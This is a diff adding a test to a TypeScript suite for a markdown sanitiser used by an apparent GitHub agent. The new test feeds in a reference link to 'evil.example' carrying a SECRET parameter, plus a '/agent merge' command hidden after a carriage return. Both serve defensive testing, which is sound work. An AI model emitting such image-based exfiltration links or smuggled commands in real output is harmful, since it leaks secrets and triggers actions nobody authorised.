@@ -4,6 +4,7 @@ import {
   closedBlocks,
   harmless,
   harmlessLine,
+  harmlessText,
   oneLine,
   plain,
   storable,
@@ -145,6 +146,19 @@ test('a cut line leaves no beginning of an image that the text after it could en
   expect(harmless(attached, '/agent')).toBe(attached);
   for (const max of [30, 60, 100, 200])
     expect(harmlessLine(`${'&a;'.repeat(12)}${attached}`, max, '/agent')).not.toContain('![');
+});
+
+test('a cut leaves no beginning of an image that a definition in the same text would complete', () => {
+  const image = '![x](https://github.com/user-attachments/assets/0f7b1c9e-1111-4222-8333-444455556666)';
+  const text = `[x]: https://evil.example/?d=SECRET\n\n${`${image}&amp;`.repeat(5)}`;
+  for (let max = 40; max < text.length + 60; max++) {
+    const shown = harmlessText(text, max, '/agent');
+    expect(shown.length).toBeLessThanOrEqual(max);
+    expect(shown.replaceAll(image, '')).not.toContain('![');
+  }
+  expect(harmlessText('@'.repeat(5) + 'a@b'.repeat(100), 200, '/agent').length).toBeLessThanOrEqual(200);
+  expect(harmlessText('```\ncode', 100, '/agent')).toBe('```\ncode\n```');
+  expect(harmless('x\r/agent merge', '/agent')).toBe('x\r\u2060/agent merge');
 });
 
 test('what GitHub would draw, and what it does not store, makes no image', () => {
